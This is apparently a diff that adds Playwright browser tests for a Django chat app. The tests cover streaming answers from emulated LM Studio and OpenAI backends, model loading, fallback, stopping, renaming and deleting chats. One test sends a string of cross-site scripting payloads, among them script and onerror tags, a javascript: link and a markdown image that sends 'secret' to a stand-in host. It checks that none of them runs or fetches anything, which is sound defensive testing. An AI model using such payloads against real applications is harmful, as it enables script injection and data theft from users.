@@ -1,0 +1,168 @@
+"""The chat in a real browser, against uvicorn, a real worker and the emulators."""
+
+import re
+from collections.abc import Iterator
+from contextlib import ExitStack
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from apikeys.services import apikey_create
+from models_mgmt.models import AIModel
+from tests.browser.conftest import screenshot
+from tests.browser.test_models_page import log_in
+from tests.conftest import cloud_provider, point_provider_at
+from tests.fakes.lmstudio import FakeLMStudio
+from tests.fakes.openai import FakeOpenAI
+
+pytestmark = pytest.mark.browser
+QWEN, GEMMA = "qwen/qwen2.5-7b-instruct", "google/gemma-3-4b"
+
+
+@pytest.fixture
+def world(live_app: str, lmstudio: FakeLMStudio, django_user_model: type) -> Iterator[dict]:
+    """alice, LM Studio with its models, and OpenAI (alice's key) behind the emulators."""
+    with ExitStack() as stack:
+        openai = stack.enter_context(FakeOpenAI(keys={"test-key-1234"}))
+        openai.chunk_delay = 0.02
+        alice = django_user_model.objects.create_user("alice", password="alice-password-1")
+        point_provider_at(lmstudio)
+        provider = cloud_provider("openai", "openai", base_url=f"{openai.url}/v1")
+        apikey_create(user=alice, provider="openai", key="test-key-1234")
+        AIModel.objects.create(provider=provider, model_id="gpt-4o-mini", display_name="GPT-4o mini")
+        yield {"url": live_app, "openai": openai, "lmstudio": lmstudio}
+
+
+def open_chat(page: Page, world: dict) -> None:
+    log_in(page, world["url"], "alice", "alice-password-1", landing="/")
+    expect(page.locator("#composer")).to_be_visible()
+
+
+def pick(page: Page, model_id: str) -> None:
+    value = str(AIModel.objects.get(model_id=model_id).pk)
+    page.select_option("#model-select", value)
+    expect(page.locator("#model-select")).to_have_value(value)
+
+
+def send(page: Page, text: str) -> None:
+    page.fill("#prompt", text)
+    page.keyboard.press("Enter")
+
+
+def last_answer(page: Page) -> object:
+    return page.locator(".msg.assistant").last
+
+
+def test_send_to_a_loaded_model_streams_the_answer(page: Page, world: dict) -> None:
+    open_chat(page, world)
+    pick(page, QWEN)
+    page.fill("#prompt", "first line")
+    page.keyboard.press("Shift+Enter")  # a new line, not a send
+    page.keyboard.type("second line")
+    expect(page.locator("#prompt")).to_have_value("first line\nsecond line")
+    page.keyboard.press("Enter")
+    expect(last_answer(page)).to_have_attribute("data-status", "complete", timeout=15_000)
+    expect(last_answer(page).locator(".body")).to_have_text("Echo: first line second line")
+    expect(last_answer(page)).to_contain_text(f"lmstudio/{QWEN}")
+    expect(last_answer(page)).to_contain_text("tokens")
+    expect(page.locator("#prompt")).to_have_value("")
+    expect(page.locator("#send")).to_be_enabled()
+    expect(page.locator(".conversation.current")).to_have_text("first line")
+    screenshot(page, "chat-desktop")
+    page.set_viewport_size({"width": 390, "height": 844})
+    expect(page.locator("#composer")).to_be_visible()
+    screenshot(page, "chat-phone")
+
+
+def test_a_not_loaded_model_is_loaded_first_with_progress(page: Page, world: dict) -> None:
+    world["lmstudio"].hold_loads()
+    open_chat(page, world)
+    pick(page, GEMMA)
+    expect(page.locator("#model-hint")).to_contain_text("loaded before it answers")
+    send(page, "hello gemma")
+    expect(last_answer(page).locator(".notice-live")).to_contain_text(re.compile(r"Loading Gemma 3 4B… \d+ s"))
+    expect(page.locator("#send")).to_be_disabled()
+    assert world["lmstudio"].wait_for_load_started(1, timeout=30)
+    screenshot(page, "chat-loading")
+    world["lmstudio"].release_loads()
+    expect(last_answer(page)).to_have_attribute("data-status", "complete", timeout=30_000)
+    expect(last_answer(page).locator(".body")).to_have_text("Echo: hello gemma")
+    expect(page.locator("#send")).to_be_enabled()
+
+
+def test_a_failing_model_offers_the_alternative_and_auto_fallback_uses_it(page: Page, world: dict) -> None:
+    world["openai"].fail("503")
+    open_chat(page, world)
+    pick(page, "gpt-4o-mini")
+    send(page, "are you there")
+    # Auto-fallback is on by default: the answer comes from the alternative, labelled.
+    expect(last_answer(page)).to_have_attribute("data-status", "complete", timeout=15_000)
+    expect(last_answer(page).locator(".fallback-label")).to_contain_text(
+        re.compile(rf"answered by lmstudio/{re.escape(QWEN)} after openai/gpt-4o-mini failed: .*503")
+    )
+    # With auto-fallback off the failure is shown and the alternative offered as one click.
+    page.locator("summary", has_text="Settings").click()
+    page.get_by_label(re.compile("Auto-fallback")).uncheck()
+    page.get_by_role("button", name="Save").last.click()
+    AIModel.objects.filter(model_id="gpt-4o-mini").update(cooldown_until=None, failure_count=0)
+    pick(page, "gpt-4o-mini")
+    send(page, "again please")
+    expect(last_answer(page)).to_have_attribute("data-status", "error", timeout=15_000)
+    expect(last_answer(page)).to_contain_text("503")
+    offer = last_answer(page).get_by_role("button", name="Use Qwen2.5 7B Instruct")
+    expect(offer).to_be_visible()
+    screenshot(page, "chat-alternative")
+    offer.click()
+    expect(last_answer(page)).to_have_attribute("data-status", "complete", timeout=15_000)
+    expect(last_answer(page).locator(".body")).to_have_text("Echo: again please")
+
+
+def test_stop_keeps_the_partial_answer(page: Page, world: dict) -> None:
+    world["openai"].chunk_delay = 0.4
+    open_chat(page, world)
+    pick(page, "gpt-4o-mini")
+    send(page, "one two three four five six seven eight nine ten")
+    answer = last_answer(page)
+    expect(answer.locator(".answer-live")).to_contain_text("Echo from")
+    answer.get_by_role("button", name="Stop").click()
+    expect(answer).to_have_attribute("data-status", "stopped", timeout=15_000)
+    text = last_answer(page).locator(".body").inner_text()
+    assert text.startswith("Echo from") and "ten" not in text
+    page.reload()
+    expect(last_answer(page).locator(".body")).to_have_text(text)
+
+
+def test_a_hostile_answer_runs_nothing_and_fetches_nothing(page: Page, world: dict) -> None:
+    dialogs: list[str] = []
+    outside: list[str] = []
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    page.on("request", lambda r: outside.append(r.url) if not r.url.startswith(world["url"]) else None)
+    open_chat(page, world)
+    pick(page, QWEN)
+    hostile = ("<script>alert(1)</script> <img src=x onerror=alert(2)> [x](javascript:alert(3)) "
+               "![](http://evil.test/?q=secret)")
+    send(page, hostile)
+    expect(last_answer(page)).to_have_attribute("data-status", "complete", timeout=15_000)
+    body = last_answer(page).locator(".body")
+    expect(body).to_contain_text("<script>alert(1)</script>")  # shown as text
+    assert body.locator("script, img, iframe").count() == 0
+    assert body.locator("a[href^='javascript']").count() == 0
+    page.reload()
+    expect(last_answer(page).locator(".body")).to_contain_text("<img src=x onerror=alert(2)>")
+    page.wait_for_load_state("networkidle")
+    assert dialogs == [] and outside == []
+
+
+def test_rename_and_delete_a_conversation(page: Page, world: dict) -> None:
+    open_chat(page, world)
+    pick(page, QWEN)
+    send(page, "plans for today")
+    expect(last_answer(page)).to_have_attribute("data-status", "complete", timeout=15_000)
+    page.locator("summary", has_text="Rename").click()
+    page.get_by_label("New title").fill("Today")
+    page.get_by_role("button", name="Save").first.click()
+    expect(page.locator("#chat-title")).to_have_text("Today")
+    expect(page.locator(".conversation.current")).to_have_text("Today")
+    page.once("dialog", lambda d: d.accept())
+    page.get_by_role("button", name="Delete").click()
+    expect(page.locator(".conversations")).not_to_contain_text("Today")
